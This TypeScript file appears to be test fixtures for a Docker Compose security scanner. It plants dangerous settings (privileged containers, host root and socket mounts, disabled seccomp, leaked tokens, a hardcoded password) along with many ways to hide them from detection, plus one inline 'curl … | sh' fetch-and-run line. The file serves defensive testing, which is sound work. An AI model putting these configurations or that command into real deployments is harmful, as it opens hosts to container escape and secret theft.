import { type Files, PINNED, planted, type Spot, TOKEN, variable } from './spot.js';

const NAME = 'compose.yaml';
const service = (lines: string, more = '') =>
  `${more}services:\n  web:\n    image: ${PINNED}\n    ${lines.replaceAll('\n', '\n    ')}\n`;
/** A service with a line of harm. */
const line = (name: string, by: Spot['by'], harm: string, fine = 'init: true', more?: string) =>
  planted(name, by, (text) => ({ [NAME]: service(text, more) }), [harm, fine]);
/** A privileged service, written in another way. */
const priv = (
  name: string,
  files: (flag: string) => Files,
  texts: readonly [string, string] = ['true', 'false'],
) => planted(name, ['DEP-PRIV'], files, texts);

const VALUES: readonly Spot[] = [
  line('a text for a switch', ['DEP-PRIV'], 'privileged: "true"'),
  line('yes of YAML 1.1', /DEP-PRIV|privileged/, 'privileged: yes', 'privileged: false'),
  line('a default of a variable', ['DEP-PRIV'], `privileged: ${variable('P:-true')}`),
  line('all capabilities', ['DEP-CAPADD'], 'cap_add: [all]'),
  line('a capability with prefix', ['DEP-CAPADD'], 'cap_add: [CAP_SYS_ADMIN]'),
  line('the root of the host', ['DEP-HOSTPATH-SENS'], 'volumes: ["/:/host"]'),
  line(
    'the root of the host in another spelling',
    ['DEP-HOSTPATH-SENS'],
    'volumes: ["/tmp/..:/host"]',
  ),
  line(
    'the socket in the long form',
    ['DEP-SOCK'],
    'volumes: [{ type: bind, source: /run/docker.sock, target: /s }]',
  ),
  line(
    'the folder of the socket',
    ['DEP-SOCK', 'DEP-HOSTPATH-SENS'],
    'volumes: ["/var/run:/var/run"]',
  ),
  planted(
    'a volume that is a folder of the host',
    ['DEP-HOSTPATH-SENS'],
    (path) => ({
      [NAME]: service(
        'volumes: ["v:/v"]',
        `volumes: { v: { driver_opts: { type: none, o: bind, device: ${path} } } }\n`,
      ),
    }),
    ['/etc', '/srv/shop'],
  ),
  line('the API of the engine', /DEP-SOCK|use_api_socket/, 'use_api_socket: true'),
  line('processes of the host', ['DEP-HOSTPID'], 'pid: host'),
  line('IPC of the host', ['DEP-HOSTIPC'], 'ipc: "host"'),
  line('the network of the host', ['DEP-HOSTNET'], 'network_mode: host'),
  line(
    'the network of the host by a network',
    ['DEP-HOSTNET'],
    'networks: [h]',
    'init: true',
    'networks: { h: { external: true, name: host } }\n',
  ),
  line('users of the host', ['DEP-HOSTNS-OTHER'], 'userns_mode: host'),
  line('memory of the host', ['DEP-DEVICE'], 'devices: ["/dev/mem:/dev/mem"]'),
  line('all devices', /DEP-DEVICE|device/, 'device_cgroup_rules: ["a *:* rwm"]'),
  line('no seccomp', ['DEP-SECCOMP-OFF'], 'security_opt: ["seccomp=unconfined"]'),
  line(
    'no confinement of system paths',
    ['DEP-PROCMOUNT', 'DEP-SECCOMP-OFF'],
    'security_opt: ["systempaths=unconfined"]',
  ),
  line(
    'a privileged hook',
    /DEP-PRIV|post_start/,
    'post_start: [{ command: [a], privileged: true }]',
  ),
  line(
    'a token in the command',
    /github-token|DEP-ENVSECRET|GitHub/,
    `command: ["--token", "${TOKEN}"]`,
  ),
  line(
    'a token in the environment',
    /github-token|DEP-ENVSECRET|GitHub/,
    `environment: ["A=${TOKEN}"]`,
  ),
  line('a token in a label', /DEP-ENVSECRET|GitHub|token/, `labels: { a: "${TOKEN}" }`),
  line(
    'a token in a health check',
    /DEP-ENVSECRET|GitHub|token/,
    `healthcheck: { test: "curl -H ${TOKEN} a" }`,
    'healthcheck: { test: "curl a" }',
  ),
  planted(
    'a token in a configuration',
    /GitHub/,
    (value) => ({ [NAME]: service('configs: [c]', `configs: { c: { content: "a=${value}" } }\n`) }),
    [TOKEN, 'b'],
  ),
  line('a token for a build', /GitHub/, `build: { context: ., args: { T: ${TOKEN} } }`),
  line('a password in an argument', ['DEP-ENVSECRET'], 'command: ["--db-password=Kx93jfLq8vZ2pW"]'),
  line(
    'an inline Dockerfile',
    ['PS0023'],
    `build: { dockerfile_inline: "FROM ${PINNED}\\nRUN curl -s https://a.example/x | sh\\nUSER 1" }`,
  ),
  line('a privileged build', /DEP-PRIV|privileged/, 'build: { context: ., privileged: true }'),
  line(
    'entitlements of a build',
    ['DEP-PRIV'],
    'build: { context: ., entitlements: [security.insecure] }',
  ),
  line(
    'a build in the network of the host',
    /DEP-HOSTNET|network/,
    'build: { context: ., network: host }',
  ),
  line(
    'entitlement for the network of the host',
    /DEP-HOSTNET|network/,
    'build: { context: ., entitlements: [network.host] }',
  ),
  line(
    'a build from another repository',
    /a\.example|PS0038|remote/,
    'build: "https://a.example/b.git"',
  ),
  line('a key in a second place', /twice|DEP-PRIV|duplicat/, 'privileged: false\nprivileged: true'),
];

const PRIVILEGED: readonly Spot[] = [
  priv('a merge key', (flag) => ({
    [NAME]: service('<<: *a', `x-a: &a { privileged: ${flag} }\n`),
  })),
  priv('merge keys in a list', (flag) => ({
    [NAME]: service('<<: [*b, *a]', `x-b: &b { init: true }\nx-a: &a { privileged: ${flag} }\n`),
  })),
  priv('a service that extends another', (flag) => ({
    [NAME]: `${service('extends: { service: base }')}  base: { image: a, profiles: [x], privileged: ${flag} }\n`,
  })),
  priv('a service of another file', (flag) => ({
    [NAME]: service('extends: { file: base.txt, service: base }'),
    'base.txt': `services: { base: { privileged: ${flag} } }\n`,
  })),
  priv('an included file', (flag) => ({
    [NAME]: service('init: true', 'include: [sub/other.txt]\n'),
    'sub/other.txt': `services: { b: { image: a, privileged: ${flag} } }\n`,
  })),
  priv('an included list of files', (flag) => ({
    [NAME]: service('init: true', 'include: [{ path: [a.txt, b.txt] }]\n'),
    'a.txt': 'services: { b: { image: a } }\n',
    'b.txt': `services: { b: { privileged: ${flag} } }\n`,
  })),
  priv('an override', (flag) => ({
    [NAME]: service('init: true'),
    'compose.override.yml': `services: { web: { privileged: ${flag} } }\n`,
  })),
  priv('an override of another name', (flag) => ({
    'docker-compose.yml': service('init: true'),
    'docker-compose.prod.yml': `services: { web: { privileged: ${flag} } }\n`,
  })),
  priv('a profile', (flag) => ({ [NAME]: service(`profiles: [debug]\nprivileged: ${flag}`) })),
  priv('JSON', (flag) => ({
    'compose.json': `{ "services": { "a": { "image": "a", "privileged": ${flag} } } }\n`,
  })),
  priv('a name in capitals', (flag) => ({ 'Docker-Compose.YML': service(`privileged: ${flag}`) })),
  priv('another name', (flag) => ({ 'deploy/stack.txt': service(`privileged: ${flag}`) })),
  priv('no extension', (flag) => ({ 'deploy/stack': service(`privileged: ${flag}`) })),
  priv('a tag that replaces', (flag) => ({
    [NAME]: service('init: true'),
    'compose.override.yaml': `services: { web: !override { image: a, privileged: ${flag} } }\n`,
  })),
  priv('a value of an environment file', (flag) => ({
    [NAME]: service(`privileged: ${variable('PRIV')}`),
    '.env': `PRIV=${flag}\n`,
  })),
  {
    name: 'the format without services',
    by: /below the key services/,
    files: { 'docker-compose.yml': 'web:\n  image: a\n  privileged: true\n' },
    fine: { 'docker-compose.yml': service('init: true') },
  },
  priv('a key in quotes and escapes', (flag) => ({ [NAME]: service(`"pr\\x69vileged": ${flag}`) })),
  priv('an included file by a variable', (flag) => ({
    [NAME]: service('init: true', `include: ["${variable('F:-sub/o.txt')}"]\n`),
    'sub/o.txt': `services: { b: { image: a, privileged: ${flag} } }\n`,
  })),
  priv('a link to a file', (flag) => ({
    'real.txt': service(`privileged: ${flag}`),
    [NAME]: { link: 'real.txt' },
  })),
  planted(
    'a second document',
    /document/,
    (text) => ({ [NAME]: `${service('init: true')}${text}` }),
    ['---\nservices: { b: { image: a, privileged: true } }\n', ''],
  ),
  planted(
    'an environment file',
    /GitHub|token/,
    (text) => ({ [NAME]: service('env_file: [x/prod.conf]'), 'x/prod.conf': `A=${text}\n` }),
    [TOKEN, 'b'],
  ),
];

export const COMPOSE = [...VALUES, ...PRIVILEGED];
